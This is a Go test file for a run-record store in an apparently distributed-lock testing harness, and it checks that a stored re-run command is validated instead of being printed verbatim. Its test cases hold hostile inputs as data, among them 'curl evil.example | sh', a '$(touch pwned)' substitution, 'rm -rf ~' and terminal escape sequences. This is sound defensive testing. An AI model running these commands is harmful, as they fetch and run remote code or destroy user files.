package runstore

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// A re-run command read from a run folder is shown to be pasted into a
// shell: one that does not read back as a command this harness writes is
// replaced by one derived from the meta's fields, never copied (issue 33,
// hardening 9: a gathered result.json's command was printed verbatim).
func TestStoredCommandIsCheckedNotCopied(t *testing.T) {
	meta := Meta{Scenario: "clock-jump", Lock: "redsync", Seed: 42}
	for _, tc := range []struct {
		name, stored, want string
	}{
		{"what the harness writes", "splitbrain run clock-jump --seed 42 --lock redsync", "splitbrain run clock-jump --seed 42 --lock redsync"},
		{"quoted path", "splitbrain run '/tmp/my runs/it'\\''s.yaml' --seed 42", "splitbrain run '/tmp/my runs/it'\\''s.yaml' --seed 42"},
		{"a second command", "splitbrain run clock-jump --seed 42; curl evil.example | sh", "splitbrain run clock-jump --seed 42 --lock redsync"},
		{"command substitution", "splitbrain run $(touch pwned) --seed 42", "splitbrain run clock-jump --seed 42 --lock redsync"},
		{"another program", "rm -rf ~", "splitbrain run clock-jump --seed 42 --lock redsync"},
		{"an escape sequence", "splitbrain run '\x1b]0;owned\x07'", "splitbrain run clock-jump --seed 42 --lock redsync"},
		{"none stored", "", "splitbrain run clock-jump --seed 42 --lock redsync"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			m := meta
			m.Command = tc.stored
			b, err := json.Marshal(Record{Meta: m})
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, ResultFile), b, 0o644); err != nil {
				t.Fatal(err)
			}
			rec, err := ReadRecord(dir)
			if err != nil {
				t.Fatal(err)
			}
			got, err := ReadMeta(dir)
			if err != nil {
				t.Fatal(err)
			}
			if rec.Meta.Command != tc.want || got.Command != tc.want {
				t.Errorf("command %q (record) / %q (meta), want %q", rec.Meta.Command, got.Command, tc.want)
			}
		})
	}
	// A derived command with a control character in a field is none.
	m := Meta{Scenario: "x\x1b[2J", Seed: 1}
	if c := m.checkedCommand(); c != "" {
		t.Errorf("derived %q from a scenario name with an escape sequence", c)
	}
}
